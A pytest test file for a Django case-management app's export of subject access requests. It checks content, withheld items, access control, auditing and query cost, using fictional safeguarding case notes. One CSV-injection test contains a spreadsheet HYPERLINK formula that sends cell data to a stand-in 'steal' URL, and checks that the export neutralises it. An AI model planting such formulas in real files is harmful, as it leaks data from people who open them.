"""The reply to a subject access request: a PDF, and the same content as JSON and CSV in a zip.
Each included item with all it says; a withheld item never leaves, in either format; nothing of
another family is in it; only administrators download it; every download is audited; and the
archive costs the same number of queries whatever the number of items."""

import csv
import datetime
import io
import json
import zipfile

import pytest
import time_machine
from auditlog.models import LogEntry
from django.conf import settings
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from pypdf import PdfReader

from core.working_days import LONDON
from data_protection import services
from data_protection.models import SubjectAccessRequest, SubjectAccessWithholding
from families.models import Contact, Person, Role
from meetings.models import Meeting
from referrals.models import Milestone, Referral
from safety_plans.models import IntelligenceEntry, SafetyPlan, Worry
from tests.conftest import client_for
from tests.factories import (
    ConsentFactory,
    ContactFactory,
    FamilyFactory,
    MembershipFactory,
    MilestoneRecordFactory,
    ParentUpdateFactory,
    PersonFactory,
    ReferralFactory,
    UserFactory,
)
from tests.meetings.factories import AgencyFactory, MeetingActionFactory, MeetingFactory

pytestmark = pytest.mark.django_db

# Wednesday 10 March 2027, 10:00 in London.
NOW = datetime.datetime(2027, 3, 10, 10, 0, tzinfo=LONDON)

# Longer than the review screen's 160 characters: the reply holds the whole note.
CALL_NOTE = (
    "Joanne rang after Tyler came home late again on Friday. She described the older boys who wait for him "
    "by the bus stop on Station Road, and the new trainers he cannot explain. We talked through how to raise "
    "it with the school and what to say to the police if it happens again; she felt calmer by the end."
)
SECOND_CALL_NOTE = "Joanne rang to say the school had called her back."
REFERRAL_TEXT = "Tyler seen with older men near the retail park; money and a new phone unexplained."
WARNING_SIGNS = "Coming home after 10pm smelling of cannabis, with cash he cannot explain."
WORRY = "Tyler being picked up in cars after school by men we do not know."
INCLUDED_INTELLIGENCE = "A blue Ford van parked outside the chip shop most evenings at 9pm."
WITHHELD_INTELLIGENCE = "Operation Kestrel: an informant names the driver of the blue van."
WITHHOLDING_NOTE = "DC Marsh asked us not to disclose the informant's account."
MEETING_NOTES = "The police agreed to share the van's registration with the school."
STAFF_NAME = "Winifred Staffordshire-Bell"
SAME_TEAM_TEXT = "Marmalade: another family of the same team, never in this reply."
OTHER_TEAM_TEXT = "Quince: a family of another team, never in this reply."

Reason = SubjectAccessWithholding.Reason


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def administrator(db):
    return MembershipFactory(role=Role.ADMINISTRATOR).user


@pytest.fixture
def admin_client(administrator):
    return client_for(administrator)


def london(*parts):
    return datetime.datetime(*parts, tzinfo=LONDON)


def record_request(administrator, person):
    return services.subject_access_record(
        user=administrator, family=person.family, person=person, asked_by=SubjectAccessRequest.AskedBy.THEMSELF,
        asked_by_name="", identity_check=SubjectAccessRequest.IdentityCheck.KNOWN_CONTACT,
        identity_details="Rang her back on the number we hold.", received_on=datetime.date(2027, 3, 8))


def intelligence(family, description, *, user, kind=IntelligenceEntry.Kind.VEHICLE, **fields):
    return IntelligenceEntry.objects.create(
        family=family, kind=kind, observed_at=london(2027, 2, 20, 21, 0), description=description,
        source="Mum saw it from the bus", recorded_by=user, **fields)


def family_with_distinctive_text(team, text, *, user):
    family = FamilyFactory(team=team)
    parent = PersonFactory(family=family, first_name="Marguerite", last_name="Vantongeren")
    ContactFactory(family=family, spoke_with=parent, worker=user, summary=text)
    intelligence(family, text, user=user)
    ConsentFactory(family=family, given_by=parent, notes=text)
    return family


@pytest.fixture
def world(cast, administrator):
    """Joanne's request, about everything in her family's record; one police intelligence entry
    withheld; two other families (one of the same team, one of another) with words of their own."""
    staff = UserFactory(full_name=STAFF_NAME)
    call = ContactFactory(family=cast.family, spoke_with=cast.carer, worker=staff, summary=CALL_NOTE,
                          occurred_at=london(2027, 3, 1, 14, 30), duration_minutes=35)
    ContactFactory(family=cast.family, spoke_with=cast.carer, worker=staff, summary=SECOND_CALL_NOTE,
                   occurred_at=london(2027, 3, 4, 9, 15))
    referral = ReferralFactory(family=cast.family, summary=REFERRAL_TEXT, csc_reference="CSC/77/2027",
                               decision=Referral.Decision.CHILD_IN_NEED, created_by=staff,
                               created_at=london(2027, 2, 1, 11, 0))
    referral.children.add(cast.child)
    MilestoneRecordFactory(referral=referral, milestone=Milestone.REFERRAL_MADE, occurred_at=london(2027, 2, 1, 11, 0),
                           note="Made by phone to the front door.")
    plan = SafetyPlan.objects.create(child=cast.child, family=cast.family, created_by=staff,
                                     warning_signs=WARNING_SIGNS, updated_at=london(2027, 2, 15, 16, 0),
                                     review_on=datetime.date(2027, 4, 1))
    Worry.objects.create(plan=plan, who_is_worried="Mum", worry=WORRY)
    included = intelligence(cast.family, INCLUDED_INTELLIGENCE, user=staff, registration="AB12 CDE",
                            passed_to_police_on=datetime.date(2027, 2, 22), police_reference="WMP-2027-0042")
    withheld = intelligence(cast.family, WITHHELD_INTELLIGENCE, user=staff, kind=IntelligenceEntry.Kind.PERSON)
    meeting = MeetingFactory(family=cast.family, held_at=london(2027, 2, 10, 13, 0), notes=MEETING_NOTES,
                             parent_invited=True, recorded_by=staff)
    meeting.agencies.add(AgencyFactory(name="West Midlands Police"))
    request = record_request(administrator, cast.carer)
    withheld_type = ContentType.objects.get_for_model(IntelligenceEntry)
    services.subject_access_withholdings_save(
        user=administrator, request=request, expected_version=request.version,
        decisions={f"{withheld_type.pk}-{withheld.pk}": (Reason.POLICE_INTELLIGENCE, WITHHOLDING_NOTE)})
    same_team = family_with_distinctive_text(cast.family.team, SAME_TEAM_TEXT, user=staff)
    other_team = family_with_distinctive_text(FamilyFactory().team, OTHER_TEAM_TEXT, user=staff)
    return {"request": request, "call": call, "referral": referral, "plan": plan, "included": included,
            "withheld": withheld, "meeting": meeting, "families": (same_team, other_team)}


def url(name, request):
    return reverse(f"data_protection:subject_access_response_{name}", args=[request.pk])


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def unzip(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert all(info.compress_type == zipfile.ZIP_DEFLATED for info in archive.infolist())
        return {name: archive.read(name) for name in archive.namelist()}


def fields_of(item) -> dict:
    return {field["label"]: field["value"] for field in item["fields"]}


# ------------------------------------------------------------------------------------- the content


def test_the_archive_holds_every_included_item_in_full_with_dates_and_choices_in_words(world, cast, admin_client):
    request = world["request"]
    response = admin_client.get(url("archive", request))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    files = unzip(response.content)
    assert set(files) == {"response.json", "response.csv", "README.txt"}
    reply = json.loads(files["response.json"].decode("utf-8"))

    assert reply["request"] == {
        "number": request.pk, "about": "Joanne Okafor", "asked_by": "The person themself",
        "received_on": "8 March 2027", "produced_on": "10 March 2027", "from": settings.CHARITY_NAME,
    }
    assert [(item["kind"], item["date"]) for item in reply["items"]] == [
        ("Their own record", "10 March 2027"),
        ("Call", "1 March 2027"),
        ("Call", "4 March 2027"),
        ("Referral to children's social care", "1 February 2027"),
        ("Safety plan", "15 February 2027"),
        ("Safety plan: a worry", "15 February 2027"),
        ("Intelligence", "20 February 2027"),
        ("Meeting", "10 February 2027"),
    ]
    own, call, second_call, referral, plan, worry, entry, meeting = (fields_of(item) for item in reply["items"])
    assert own["Name"] == "Joanne Okafor" and own["Recorded as"] == "Parent or carer"
    assert call == {
        "When": "Monday 1 March 2027, 14:30", "How": "Phone", "How long": "35 minutes",
        "Who we spoke with": "Joanne Okafor", "What was discussed": CALL_NOTE,
    }
    assert len(CALL_NOTE) > 160
    assert second_call["What was discussed"] == SECOND_CALL_NOTE
    assert referral["What the referral is about"] == REFERRAL_TEXT
    assert referral["Decision"] == "Child in need (section 17)"
    assert referral["Children's social care reference"] == "CSC/77/2027"
    assert referral["Referral made"] == "Monday 1 February 2027, 11:00. Made by phone to the front door."
    assert plan["For"] == "Tyler Okafor"
    assert plan["Warning signs"] == WARNING_SIGNS
    assert plan["Review date"] == "1 April 2027"
    assert worry == {"Who is worried": "Mum", "What we are worried about": WORRY}
    assert entry["What was seen or found"] == INCLUDED_INTELLIGENCE
    assert entry["What it is about"] == "A vehicle"
    assert entry["Passed to the police on"] == "22 February 2027"
    assert entry["Police reference"] == "WMP-2027-0042"
    assert meeting["Meeting"] == "Multi-agency child exploitation (MACE) meeting"
    assert meeting["Agencies present"] == "West Midlands Police"
    assert meeting["The parent was invited"] == "Yes" and meeting["The parent attended"] == "No"
    assert meeting["Notes"] == MEETING_NOTES
    assert reply["withheld"] == {"count": 1, "reasons": [
        {"reason": "Police intelligence (crime and taxation)", "count": 1}]}

    # The CSV: a byte order mark, then one row per field of the same items, in the same order.
    assert files["response.csv"].startswith(b"\xef\xbb\xbf")
    header, *rows = list(csv.reader(io.StringIO(files["response.csv"].decode("utf-8-sig"))))
    assert header == ["Item", "Kind", "Date", "Label", "Value"]
    assert rows == [
        [str(number), item["kind"], item["date"], field["label"], field["value"]]
        for number, item in enumerate(reply["items"], start=1) for field in item["fields"]
    ]
    assert ["2", "Call", "1 March 2027", "What was discussed", CALL_NOTE] in rows

    readme = files["README.txt"].decode("utf-8")
    assert "response.json" in readme and "response.csv" in readme
    assert "1 item was left out of this reply." in readme
    assert "Police intelligence (crime and taxation): 1" in readme


def test_the_reply_names_no_member_of_staff_and_no_internal_numbers(world, admin_client):
    files = unzip(admin_client.get(url("archive", world["request"])).content)
    everything = b"".join(files.values()).decode("utf-8-sig")
    assert STAFF_NAME not in everything
    assert "version" not in everything.lower()
    # The call's and the referral's database ids are nowhere as a field.
    reply = json.loads(files["response.json"])
    values = [field["value"] for item in reply["items"] for field in item["fields"]]
    assert str(world["call"].pk) not in values and str(world["referral"].pk) not in values
    assert STAFF_NAME not in pdf_text(admin_client.get(url("pdf", world["request"])).content)


def test_the_pdf_has_a_cover_then_every_included_item(world, cast, admin_client):
    response = admin_client.get(url("pdf", world["request"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert "What we hold about Joanne Okafor" in text
    assert "Received on: 8 March 2027" in text and "Produced on: 10 March 2027" in text
    assert "Data Protection Act 2018" in text
    assert "1 item was left out of this reply." in text
    assert "Police intelligence (crime and taxation): 1 item" in text
    assert text.index("What has been left out") < text.index("The records")
    for words in (CALL_NOTE, SECOND_CALL_NOTE, REFERRAL_TEXT, WARNING_SIGNS, WORRY, INCLUDED_INTELLIGENCE,
                  MEETING_NOTES, "Monday 1 March 2027, 14:30"):
        assert " ".join(words.split()) in text, words


def test_a_note_that_a_spreadsheet_would_run_is_kept_as_text_in_the_csv(cast, administrator, admin_client):
    formula = '=HYPERLINK("http://example.com/steal?d="&A1,"Open")'
    ContactFactory(family=cast.family, spoke_with=cast.carer, summary=formula)
    request = record_request(administrator, cast.carer)
    files = unzip(admin_client.get(url("archive", request)).content)
    rows = list(csv.reader(io.StringIO(files["response.csv"].decode("utf-8-sig"))))
    assert [row[4] for row in rows if row[3] == "What was discussed"] == ["'" + formula]
    # The JSON is read by programs, not spreadsheets: the words as written.
    values = [field["value"] for item in json.loads(files["response.json"])["items"] for field in item["fields"]]
    assert formula in values


def test_a_reply_with_nothing_withheld_says_so(cast, administrator, admin_client):
    request = record_request(administrator, cast.child)
    reply = json.loads(unzip(admin_client.get(url("archive", request)).content)["response.json"])
    assert reply["withheld"] == {"count": 0, "reasons": []}
    child = fields_of(reply["items"][0])
    assert child["Recorded as"] == "Child"
    assert child["Risk level"] == "Medium"
    assert child["Looked after by the local authority"] == "No"
    assert "Nothing we hold about you has been left out" in pdf_text(admin_client.get(url("pdf", request)).content)


# ------------------------------------------------------------------------------------- what never leaves


def all_text(admin_client, request) -> dict[str, str]:
    """Every file of the reply as text: the PDF's and each file in the archive."""
    files = unzip(admin_client.get(url("archive", request)).content)
    return {"the PDF": pdf_text(admin_client.get(url("pdf", request)).content),
            **{name: content.decode("utf-8-sig") for name, content in files.items()}}


def test_a_withheld_item_is_in_neither_format_only_its_reason_and_count(world, admin_client):
    texts = all_text(admin_client, world["request"])
    assert set(texts) == {"the PDF", "response.json", "response.csv", "README.txt"}
    for name, text in texts.items():
        assert "Kestrel" not in text, name
        assert "informant" not in text, name
        assert "DC Marsh" not in text, name
        assert INCLUDED_INTELLIGENCE in " ".join(text.split()) or name == "README.txt", name
    for name in ("the PDF", "response.json", "README.txt"):
        assert "Police intelligence (crime and taxation)" in texts[name], name


def test_another_familys_data_never_appears_in_any_format(world, admin_client):
    same_team, other_team = world["families"]
    for name, text in all_text(admin_client, world["request"]).items():
        for words in ("Marmalade", "Quince", "Vantongeren", same_team.reference, other_team.reference):
            assert words not in text, (name, words)


# ------------------------------------------------------------------------------------- who may download


@pytest.mark.parametrize("name", ["pdf", "archive"])
def test_only_administrators_download_the_reply(world, cast, name):
    request = world["request"]
    before = LogEntry.objects.count()
    for user in (cast.key_worker, cast.teammate, cast.manager, cast.outsider):
        assert client_for(user).get(url(name, request)).status_code == 404, user
    signed_out = client_for(None).get(url(name, request))
    assert signed_out.status_code == 302 and signed_out.url.startswith(reverse("login"))
    assert LogEntry.objects.count() == before


@pytest.mark.parametrize("name", ["pdf", "archive"])
def test_the_reply_is_a_download_named_by_its_number_never_kept_and_only_read(world, admin_client, name):
    request = world["request"]
    response = admin_client.get(url(name, request))
    extension = "pdf" if name == "pdf" else "zip"
    assert response["Content-Disposition"] == f'attachment; filename="subject-access-request-{request.pk}.{extension}"'
    assert "Okafor" not in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    assert admin_client.post(url(name, request)).status_code == 405


def test_the_review_screen_links_to_both_formats_and_says_withheld_items_are_left_out(world, admin_client):
    page = admin_client.get(reverse("data_protection:subject_access", args=[world["request"].pk])).content.decode()
    assert f'href="{url("pdf", world["request"])}"' in page
    assert f'href="{url("archive", world["request"])}"' in page
    assert "Download the reply (PDF)" in page
    assert "Download the reply as data (JSON and CSV, zip)" in page
    assert "Withheld items are left out of both" in page


# ------------------------------------------------------------------------------------- the audit


def exports(administrator):
    return LogEntry.objects.filter(action=LogEntry.Action.ACCESS, actor=administrator,
                                   additional_data__read="export")


@pytest.mark.parametrize(("name", "file_format"), [("pdf", "PDF"), ("archive", "JSON and CSV archive")])
def test_each_included_record_is_an_export_read_the_withheld_one_is_not(world, cast, administrator,
                                                                      admin_client, name, file_format):
    request = world["request"]
    admin_client.get(url(name, request))
    exported = {(entry.content_type.model_class(), int(entry.object_pk)) for entry in exports(administrator)}
    assert exported == {
        (SubjectAccessRequest, request.pk), (Person, cast.carer.pk),
        *((Contact, pk) for pk in Contact.objects.filter(family=cast.family).values_list("pk", flat=True)),
        (Referral, world["referral"].pk), (SafetyPlan, world["plan"].pk),
        (Worry, Worry.objects.get(plan=world["plan"]).pk),
        (IntelligenceEntry, world["included"].pk), (Meeting, world["meeting"].pk),
    }
    # Nothing of the withheld entry left in the file, so it was not exported.
    assert (IntelligenceEntry, world["withheld"].pk) not in exported
    assert all(entry.additional_data["what"] == "subject access reply" for entry in exports(administrator))
    assert all(entry.additional_data["family_id"] == cast.family.pk for entry in exports(administrator))
    event = LogEntry.objects.get(additional_data__event="subject access reply produced")
    assert (event.actor, event.content_type.model_class(), int(event.object_pk)) == (
        administrator, SubjectAccessRequest, request.pk)
    assert (event.additional_data["format"], event.additional_data["items_included"],
            event.additional_data["items_withheld"], event.additional_data["family_id"]) == (
        file_format, 8, 1, cast.family.pk)


# ------------------------------------------------------------------------------------- its cost


def a_family_record(cast, size):
    """``size`` of every kind of record the reply holds."""
    staff = UserFactory()
    plan = SafetyPlan.objects.create(child=cast.child, family=cast.family, created_by=staff)
    referral = ReferralFactory(family=cast.family, created_by=staff)
    referral.children.add(cast.child)
    for n in range(size):
        ContactFactory(family=cast.family, spoke_with=cast.carer, worker=staff)
        ConsentFactory(family=cast.family, given_by=cast.carer, recorded_by=staff)
        intelligence(cast.family, f"Sighting {n}", user=staff)
        Worry.objects.create(plan=plan, who_is_worried="Mum", worry=f"Worry {n}", position=n)
        ParentUpdateFactory(referral=referral, summary=f"Update {n}")
        MeetingActionFactory(meeting=MeetingFactory(family=cast.family, recorded_by=staff))
    MilestoneRecordFactory(referral=referral)


@pytest.mark.parametrize("size", [1, 12])
def test_the_archive_costs_the_same_whatever_the_number_of_items(cast, administrator, admin_client, size,
                                                                django_assert_num_queries):
    a_family_record(cast, size)
    request = record_request(administrator, cast.carer)
    admin_client.get(url("archive", request))  # content types and the session warmed
    with django_assert_num_queries(33):
        response = admin_client.get(url("archive", request))
    # Their own record, the referral and the plan, and ``size`` of each other kind.
    assert len(json.loads(unzip(response.content)["response.json"])["items"]) == 3 + 5 * size
